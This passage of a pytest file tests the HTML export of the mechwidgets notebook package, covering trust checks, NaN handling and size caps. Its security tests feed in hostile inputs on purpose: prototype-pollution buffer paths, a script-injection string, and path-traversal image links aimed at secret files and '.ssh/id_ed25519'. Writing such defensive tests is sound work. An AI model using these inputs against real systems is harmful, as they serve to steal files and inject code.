    assert list(payload_of(default.path.read_text(encoding="utf-8"))["models"]) == [w.model_id]
    assert default.untrusted == 2  # the one importing from a URL would not be drawn even trusted


def test_trust_and_sanitize_html_are_refused_together(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = benign_notebook(tmp_path)
    with pytest.raises(ExportError, match="contradict"):
        _export.export_notebook(src, tmp_path / "x.html", trust=True, sanitize_html=True)
    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "x.html"), "--trust", "--sanitize-html")
    assert rc == 2 and "contradict" in err
    assert not (tmp_path / "x.html").exists()


def test_how_drawn_is_decided_by_saved_names_only() -> None:
    w = small_attention()
    entry = mechwidget_entry(w)
    assert _export.how_drawn(entry) == _export.Verdict("installed", bundle="attention.js", name=entry["state"]["_anywidget_id"])
    for cls in ["mechwidgets.widgets.attention.Evil", "__main__.MyAttention", "mechwidgets", ""]:
        claimed = copy.deepcopy(entry)
        claimed["state"]["_anywidget_id"] = cls
        assert _export.how_drawn(claimed).how == "fallback", cls
        assert _export.how_drawn(claimed, trust=True).how == "saved", cls  # trusted: its own code
    not_anywidget = copy.deepcopy(entry)
    not_anywidget["model_module"] = "@jupyter-widgets/controls"
    assert _export.how_drawn(not_anywidget).how == "fallback"
    assert _export.how_drawn(not_anywidget, trust=True).how == "fallback"
    assert _export.how_drawn({"state": {"value": 3}, "model_name": "IntSliderModel"}, trust=True).how == "fallback"
    assert _export.how_drawn("not a dict").how == "fallback"
    # every widget class of the package maps to its own bundle, and every bundle was built
    bundles = _export.mechwidgets_bundles()
    assert {c.cls.__name__ for c in WIDGETS} <= {k.rsplit(".", 1)[1] for k in bundles}
    assert all((STATIC / b).is_file() for b in bundles.values())


def test_nan_and_infinity_in_saved_state(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    w = small_attention()
    entry = mechwidget_entry(w)
    entry["state"]["ablation"] = {"baseline": float("nan"), "values": [1.0, float("inf"), -float("inf")]}
    src = saved_state_notebook(tmp_path / "nan.ipynb", [(w.model_id, entry)])
    assert "NaN" in src.read_text() and "Infinity" in src.read_text()
    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "nan.html"))
    assert rc == 0 and "3 NaN/Infinity number(s)" in err, err
    text = re.search(r'<script[^>]*\sid="mw-export-data"[^>]*>(.*?)</script>', (tmp_path / "nan.html").read_text(), re.S)
    assert text is not None

    def refuse(token: str) -> Any:
        raise AssertionError(f"{token} in the payload")

    state = json.loads(text.group(1), parse_constant=refuse)["models"][w.model_id]["state"]
    assert state["ablation"] == {"baseline": None, "values": [1.0, None, None]}
    # a live widget's traits too (widget.to_html)
    w.ablation = {"baseline": float("nan")}
    assert payload_of(w.to_html())["models"][w.model_id]["state"]["ablation"] == {"baseline": None}


def test_unsafe_buffer_paths_are_refused(tmp_path: Path) -> None:
    w = small_attention()
    entries = []
    for path in (["__proto__", "polluted"], ["tokens", "constructor", "prototype", "x"], [-1], [], "tokens"):
        entry = mechwidget_entry(w)
        entry["buffers"] = [*entry["buffers"], {"path": path, "data": "AQ==", "encoding": "base64"}]
        entries.append(entry)
        verdict = _export.how_drawn(entry, trust=True)
        assert verdict.how == "fallback" and "malformed" in verdict.reason, (path, verdict)
    assert "prototype" in _export.how_drawn(entries[0]).reason
    src = saved_state_notebook(tmp_path / "proto.ipynb", [(f"m{k}", e) for k, e in enumerate(entries)])
    summary = _export.export_notebook(src, tmp_path / "proto.html")
    assert summary.interactive == 0 and summary.static == len(entries)
    assert sum("malformed" in m for m in summary.warnings) == len(entries)
    assert summary.path is not None and 'id="mw-export-data"' not in summary.path.read_text()


def test_saved_state_is_ipywidgets_embed_state() -> None:
    """A widget's saved state is what ``ipywidgets.embed`` saves for it: the state without its
    binary values, which are base64 ``buffers`` with their paths; put back, they give the
    widget's state byte for byte."""
    from ipywidgets.embed import dependency_state

    w = small_attention()
    entry = _export.widget_saved_state(w)
    assert entry == dependency_state([w], drop_defaults=False)[w.model_id]
    assert len(entry["buffers"]) >= 2 and all(b["encoding"] == "base64" for b in entry["buffers"])
    state = copy.deepcopy(entry["state"])
    for b in entry["buffers"]:
        *keys, last = b["path"]
        node = state
        for key in keys:
            node = node[key]
        assert last not in node  # lifted out, not left as a copy
        node[last] = base64.b64decode(b["data"])
    assert state == w.get_state()


def test_saved_state_size_cap(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    w = small_attention()
    nbytes = _export.saved_state_nbytes(w)
    with pytest.raises(ExportError, match=r"over the limit of .* MiB for one widget.*--max-state-mb"):
        _export.widget_to_html(w, max_state_bytes=1000)
    assert _export.widget_to_html(w, max_state_bytes=nbytes)  # the whole state fits its own size
    big = mechwidget_entry(w)
    big["state"]["prompt"] = "x" * (2 * 2**20)
    src = saved_state_notebook(tmp_path / "big.ipynb", [(w.model_id, big)])
    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "big.html"), "--max-state-mb", "1")
    assert rc == 2 and "over the limit of 1 MiB" in err and "--max-state-mb 3" in err, err
    assert not (tmp_path / "big.html").exists()
    assert export_main(capsys, str(src), "-o", str(tmp_path / "big.html"), "--max-state-mb", "3")[0] == 0


def test_spoofed_host_metadata_is_never_written(tmp_path: Path) -> None:
    import nbformat

    w = small_attention()
    src = saved_state_notebook(tmp_path / "spoof.ipynb", [(w.model_id, mechwidget_entry(w)), ("other", third_party_entry(BENIGN_ESM))])
    nb = json.loads(src.read_text())
    for cell in nb["cells"]:
        for out in cell.get("outputs", []):
            out["metadata"] = {"mechwidgets_host": "<script>window.__spoofed=1</script>"}
    page, _ = _export.notebook_to_html(nbformat.from_dict(nb))
    assert "__spoofed" not in page and page.count('class="mw-export-widget"') == 1


def test_missing_export_dependencies(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tomllib = pytest.importorskip("tomllib")  # Python >= 3.11

    extras = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    names = {re.split(r"[<>=\[ ]", d)[0] for d in extras["export"]}
    assert {"nbformat", "nbconvert", "nbclient"} <= names
    src = benign_notebook(tmp_path)
    monkeypatch.setitem(sys.modules, "nbconvert", None)  # as if not installed: import fails
    with pytest.raises(MissingDependencyError, match=re.escape("pip install 'mechwidgets[export]'")):
        _export.notebook_to_html({})
    assert isinstance(MissingDependencyError("x"), ImportError)
    rc, _, err = export_main(capsys, str(src))
    assert rc == 2 and "nbconvert" in err and "pip install 'mechwidgets[export]'" in err
    assert not (tmp_path / "benign.html").exists()


# ------------------------------------------------------------------------------------ images
def png_bytes(marker: int) -> bytes:
    """A real 1x1 PNG whose pixel's colour is ``marker`` (so each file's bytes differ)."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = zlib.compress(bytes([0, marker % 256, 7, 9]))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


SVG_IMAGE = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>'


def test_sniff_image_by_content() -> None:
    assert _export.sniff_image(png_bytes(1)) == "image/png"
    assert _export.sniff_image(b"\xff\xd8\xff\xe0\x00\x10JFIF") == "image/jpeg"
    assert _export.sniff_image(b"GIF89a\x01\x00\x01\x00\x00\x00\x00") == "image/gif"
    assert _export.sniff_image(SVG_IMAGE.encode()) == "image/svg+xml"
    for not_image in (b"-----BEGIN OPENSSH PRIVATE KEY-----\n", b"\x89PNG\r\n\x1a\n", b"<html><svg></svg></html>",
                      b"<svg", b"", b"GIF89a", b"ssh-ed25519 AAAA"):
        assert _export.sniff_image(not_image) is None, not_image


def image_layout(root: Path) -> tuple[Path, dict[str, bytes]]:
    """``root/nb/images.ipynb`` whose Markdown points at images inside and outside its folder.

    Inside: ok.png (a PNG), pic.svg, fake.png (a key, named .png), link.png (a symlink to a PNG
    outside). Outside: root/secret.png, root/.ssh/id_ed25519 (the issue's example: exporting
    from the home directory must not embed it).
    """
    nb_dir = root / "nb"
    (nb_dir / "sub").mkdir(parents=True)
    (root / ".ssh").mkdir()
    files = {
        "ok": png_bytes(11), "svg": SVG_IMAGE.encode(), "secret": png_bytes(99),
        "key": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-SECRET\n",
        "att": png_bytes(55),
    }
    (nb_dir / "ok.png").write_bytes(files["ok"])
    (nb_dir / "sub" / "pic.svg").write_bytes(files["svg"])
    (nb_dir / "fake.png").write_bytes(files["key"])
    (root / "secret.png").write_bytes(files["secret"])
    (root / ".ssh" / "id_ed25519").write_bytes(files["key"])
    (nb_dir / "link.png").symlink_to(root / "secret.png")
    markdown = (
        "![att](attachment:a.png) ![missing](attachment:nope.png)",
        "![ok](ok.png) ![svg](sub/pic.svg) ![dotdot](sub/../ok.png)",
        "![up](../secret.png) ![enc](%2e%2e/secret.png) ![abs](" + str(root / "secret.png") + ")",
        "![fake](fake.png) ![link](link.png) ![key](.ssh/id_ed25519) ![key2](../.ssh/id_ed25519)",
        '<img alt="rawup" src="../secret.png"> <img alt="rawok" src="ok.png">',
    )
    attachments = {"a.png": {"image/png": base64.b64encode(files["att"]).decode()}}
    return saved_state_notebook(nb_dir / "images.ipynb", [], markdown=markdown, attachments=attachments), files


def img_srcs(page: str) -> dict[str, str]:
    return {alt: src for src, alt in re.findall(r'<img src="([^"]*)" alt="([^"]*)"', page)} | {
        alt: src for alt, src in re.findall(r'<img alt="([^"]*)" src="([^"]*)"', page)}


def test_markdown_images_only_from_the_notebook_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src, files = image_layout(tmp_path)
    monkeypatch.chdir(tmp_path)  # exporting from the "home directory" that holds .ssh/
    summary = _export.export_notebook(src, tmp_path / "images.html")
    assert summary.path is not None
    page = summary.path.read_text(encoding="utf-8")
    srcs = img_srcs(page)

    def data_url(mime: str, data: bytes) -> str:
        return f"data:{mime};base64,{base64.b64encode(data).decode()}"

    assert srcs["att"] == data_url("image/png", files["att"]) and srcs["missing"] == ""
    assert srcs["ok"] == srcs["dotdot"] == srcs["rawok"] == data_url("image/png", files["ok"])
    assert srcs["svg"] == data_url("image/svg+xml", files["svg"])
    # everything else stays the link it was, and no outside or non-image bytes are in the page
    assert srcs["up"] == srcs["rawup"] == "../secret.png" and srcs["enc"] == "%2e%2e/secret.png"
    assert srcs["abs"] == str(tmp_path / "secret.png")
    assert (srcs["fake"], srcs["link"], srcs["key"], srcs["key2"]) == ("fake.png", "link.png", ".ssh/id_ed25519", "../.ssh/id_ed25519")
    for secret in (files["secret"], files["key"]):
        assert base64.b64encode(secret).decode() not in page
    assert "SECRET" not in page
    # without a folder (notebook_to_html on a node) no local file is read at all
    import nbformat

    bare, _ = _export.notebook_to_html(nbformat.read(src, as_version=4))
    assert img_srcs(bare)["ok"] == "ok.png" and img_srcs(bare)["att"].startswith("data:image/png;base64,")
